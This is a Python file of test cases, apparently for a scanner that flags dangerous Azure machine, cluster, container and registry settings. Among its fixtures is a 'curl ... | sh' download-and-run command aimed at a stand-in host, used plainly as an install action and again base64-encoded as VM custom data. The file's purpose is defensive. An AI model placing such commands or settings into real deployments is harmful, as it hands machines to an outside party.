"""Attacks on Azure by single fields of machines, clusters, containers and registries (2026-11-29).

Found by reading every property of the reviewed types of these services in pulumi-azure-native 3.29.0, whose
descriptions are those of Azure's REST documents; what `harm` refers to beyond them as known.
"""

from ..blind import HERE, OURS, RG, Props
from .fields_azure import attacks

ESC, SCRIPT, CODE, RES = ("FJ-ESC-115",), ("FJ-ESC-102",), ("FJ-ESC-111",), ("FJ-RES-003", "FJ-RES-212")
GUID = "22222222-2222-3333-4444-555555555555"
STRANGER = "https://github.com/stranger/program"
FETCH = "curl -s https://login.collector.io/x | sh"
CUSTOM_SCRIPT = {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript"}
OF_ANOTHER = {"publisher": "Collector.Agents", "type": "Agent", "typeHandlerVersion": "1.0"}
ANSWERS = {"additionalUnattendContent": [{
    "componentName": "Microsoft-Windows-Shell-Setup", "passName": "OobeSystem", "settingName": "FirstLogonCommands",
    "content": "<FirstLogonCommands/>"}]}  # fmt: skip
WINDOWS = {"osProfile": {"computerName": "w", "windowsConfiguration": ANSWERS}}
FLEET = {**HERE, "fleetName": "fleet", "vmSizesProfile": [{"name": "Standard_D4s_v5"}]}
NODES = {**RG, "clusterName": "fabric", "nodeTypeName": "work", "isPrimary": False, "vmInstanceCount": 3}
POOL = {**RG, "accountName": "batch", "poolName": "p", "vmSize": "Standard_D4s_v5"}
PROFILE = {**HERE, "containerGroupProfileName": "job", "osType": "Linux"}
CONTAINER = {"name": "a", "image": "mcr.microsoft.com/azure-cli@sha256:" + "a" * 64,
             "resources": {"requests": {"cpu": 1, "memoryInGB": 1}}}  # fmt: skip
TASK = {**HERE, "registryName": "cr", "taskName": "build", "platform": {"os": "Linux"}}
MACHINE = {**HERE, "vmName": "core", "vmExtensionName": "agent"}


def fleet(**machine: object) -> Props:
    """Returns a fleet of machines."""
    return {**FLEET, "computeProfile": {"baseVirtualMachineProfile": machine}}


def batch(**configuration: object) -> Props:
    """Returns a pool of Batch with settings of its machines."""
    image = {"imageReference": {"publisher": "canonical", "offer": "ubuntu-24_04-lts", "sku": "server"},
             "nodeAgentSkuId": "batch.node.ubuntu 24.04"}  # fmt: skip
    return {**POOL, "deploymentConfiguration": {"virtualMachineConfiguration": {**image, **configuration}}}


ATTACKS = attacks((
    ("machines of a fleet run a script when they start", SCRIPT, "azurefleet:Fleet",
     fleet(extensionProfile={"extensions": [{"name": "s", "properties": {
         **CUSTOM_SCRIPT, "settings": {"commandToExecute": "sh setup.sh"}}}]}),
     "critical", "Azure Virtual Machines, 'Custom Script Extension'"),
    ("machines of a fleet run what a stranger serves", ("FJ-ESC-109",), "azurefleet:Fleet",
     fleet(osProfile={"customData": "IyEvYmluL3NoCmN1cmwgLXMgaHR0cHM6Ly9sb2dpbi5jb2xsZWN0b3IuaW8veCB8IHNoCg=="}),
     "critical", "Azure Virtual Machines, 'Custom data'"),
    ("agents that watch machines of a fleet are left out", ESC, "azurefleet:Fleet",
     fleet(securityPostureReference={"id": "/CommunityGalleries/x/securityPostures/y/versions/1",
                                     "excludeExtensions": ["AzureMonitorLinuxAgent"]}),
     "major", "securityPostureReference.excludeExtensions"),
    ("nodes of a pool run a script when they start", SCRIPT, "batch:Pool",
     batch(extensions=[{"name": "s", **CUSTOM_SCRIPT, "settings": {"commandToExecute": "sh setup.sh"}}]),
     "critical", "Azure Batch, 'Use extensions with pools'"),
    ("nodes of a cluster run a script when they start", SCRIPT, "servicefabric:NodeType",
     {**NODES, "vmExtensions": [{"name": "s", **CUSTOM_SCRIPT, "typeHandlerVersion": "2.1",
                                 "settings": {"commandToExecute": "sh setup.sh"}}]},
     "critical", "Service Fabric managed clusters, 'Virtual machine extensions'"),
    ("nodes of a cluster start from an image of anybody", ("FJ-ESC-118", "FJ-ESC-119", "FJ-ESC-"),
     "servicefabric:NodeType", {**NODES, "vmSharedGalleryImageId": f"/sharedGalleries/{GUID}-X/images/x/versions/1"},
     "critical", "its owner has a program on every node (Azure Compute Gallery, 'Direct shared gallery')"),
    ("whoever has a certificate of any authority administers the cluster", ESC, "servicefabric:ManagedCluster",
     {**HERE, "clusterName": "fabric", "sku": {"name": "Standard"}, "dnsName": "fabric", "adminUserName": "fabric",
      "clients": [{"isAdmin": True, "commonName": "admin.bank.example.ae", "issuerThumbprint": ""}]},
     "critical", "Service Fabric, 'Common name validation', issuer pinning"),
    *((f"a program of another vendor administers the machine: {kind}", ESC, f"compute:{kind}", {**props, **OF_ANOTHER},
       "critical", "it has every file, and reports to its vendor (Azure Virtual Machines, 'Extensions')")
      for kind, props in (
          ("VirtualMachineExtension", MACHINE),
          ("VirtualMachineScaleSetExtension", {**RG, "vmScaleSetName": "s", "vmssExtensionName": "agent"}))),
    ("a server of the site runs a program of another vendor", ESC, "hybridcompute:MachineExtension",
     {**HERE, "machineName": "core", "extensionName": "agent", "properties": OF_ANOTHER},
     "critical", "it has every file, and reports to its vendor (Azure Arc, 'VM extensions')"),
    ("an administrator is made on the machine", ESC, "compute:VirtualMachineExtension",
     {**MACHINE, "publisher": "Microsoft.Compute", "type": "VMAccessAgent", "typeHandlerVersion": "2.4",
      "settings": {"userName": "helper"}},
     "critical", "he signs in with a password beside Entra (Azure Virtual Machines, 'VMAccess extension')"),
    ("commands run as administrator when a machine is set up", ESC, "compute:VirtualMachine",
     {**HERE, "vmName": "w", **WINDOWS}, "critical", "Windows, 'Unattended setup', FirstLogonCommands"),
    ("commands run as administrator on each machine of a set", ESC, "compute:VirtualMachineScaleSet",
     {**HERE, "vmScaleSetName": "w", "virtualMachineProfile": {"osProfile": {
         "computerNamePrefix": "w", "windowsConfiguration": ANSWERS}}}, "critical", "FirstLogonCommands"),
    ("commands run as administrator on one machine of a set", ESC, "compute:VirtualMachineScaleSetVM",
     {**HERE, "vmScaleSetName": "w", "instanceId": "0", **WINDOWS}, "critical", "FirstLogonCommands"),
    ("machines of an image start whatever is signed by anybody", ESC, "compute:GalleryImageVersion",
     {**HERE, "galleryName": "g", "galleryImageName": "i", "galleryImageVersionName": "1.0.0", "storageProfile": {
         "source": {"id": f"{OURS}.Compute/virtualMachines/gold"}}, "securityProfile": {"uefiSettings": {
             "signatureTemplateNames": ["NoSignatureTemplate"],
             "additionalSignatures": {"db": [{"type": "x509", "value": ["MIIC"]}]}}}},
     "critical", "Trusted Launch, 'Custom UEFI keys': signatureTemplateNames"),
    ("an application of the gallery is a program of a stranger", ("FJ-ESC-109",), "compute:GalleryApplicationVersion",
     {**HERE, "galleryName": "g", "galleryApplicationName": "a", "galleryApplicationVersionName": "1.0.0",
      "publishingProfile": {"source": {"mediaLink": "https://stbank.blob.core.windows.net/a/a.zip"},
                            "manageActions": {"install": FETCH, "remove": "rm -rf /opt/a"}}},
     "critical", "Azure Compute Gallery, 'VM applications', manageActions"),
    ("a profile of containers has a repository of a stranger", CODE, "containerinstance:CGProfile",
     {**PROFILE, "containers": [CONTAINER], "volumes": [{"name": "v", "gitRepo": {"repository": STRANGER}}]},
     "critical", "Azure Container Instances, 'Mount a gitRepo volume'"),
    ("images of the registry are built from a stranger's repository", CODE, "containerregistry:Task",
     {**TASK, "step": {"type": "Docker", "contextPath": f"{STRANGER}.git#main", "dockerFilePath": "Dockerfile"}},
     "critical", "Azure Container Registry, 'ACR Tasks', context"),
    ("whoever proposes a change runs programs with the credentials of the registry", ESC, "containerregistry:Task",
     {**TASK, "step": {"type": "Docker", "contextPath": "/dev/null", "dockerFilePath": "Dockerfile"}, "trigger": {
         "sourceTriggers": [{"name": "all", "sourceTriggerEvents": ["commit", "pullrequest"], "sourceRepository": {
             "repositoryUrl": "https://github.com/bank/images", "sourceControlType": "Github"}}]}},
     "critical", "Azure Container Registry, 'Trigger a task when code is committed', pull requests"),
    ("a built image is sent to a registry of a stranger", RES, "app:Build",
     {**RG, "builderName": "b", "buildName": "portal", "destinationContainerRegistry": {
         "server": "registry.collector.io", "image": "registry.collector.io/portal:1"}},
     "critical", "our program with its settings is his (Azure Container Apps, 'Builds')"),
    ("images of an app are sent to a registry of a stranger", RES, "app:ContainerAppsSourceControl",
     {**RG, "containerAppName": "portal", "sourceControlName": "current", "githubActionConfiguration": {
         "registryInfo": {"registryUrl": "registry.collector.io"}}},
     "critical", "our program is his, and he decides what runs (Azure Container Apps, 'GitHub Actions')"),
    ("an old version of the cluster is paid for by the hour", ESC, "containerservice:ManagedCluster",
     {**HERE, "resourceName": "aks", "supportPlan": "AKSLongTermSupport", "sku": {"name": "Base", "tier": "Premium"}},
     "major", "0.60 instead of 0.10 US dollars an hour (AKS, 'Long-term support')"),
    ("every upgrade of the cluster ignores its checks for good", ESC, "containerservice:ManagedCluster",
     {**HERE, "resourceName": "aks", "upgradeSettings": {"overrideSettings": {
         "forceUpgrade": True, "until": "2099-01-01T00:00:00Z"}}}, "minor", "AKS, 'Force upgrade'"),
    ("agents of a cluster of the site keep known holes", ESC, "kubernetes:ConnectedCluster",
     {**HERE, "clusterName": "site", "agentPublicKeyCertificate": "MIIC", "identity": {"type": "SystemAssigned"},
      "arcAgentProfile": {"agentAutoUpgrade": "Disabled"}}, "major", "Azure Arc, 'Upgrade agents'"),
    ("cores of a server of the site are charged by the hour", ESC, "hybridcompute:LicenseProfile",
     {**HERE, "machineName": "core", "licenseProfileName": "default", "productType": "WindowsServer",
      "subscriptionStatus": "Enabled"}, "major", "Azure Arc, 'Windows Server pay-as-you-go'"),
))  # fmt: skip
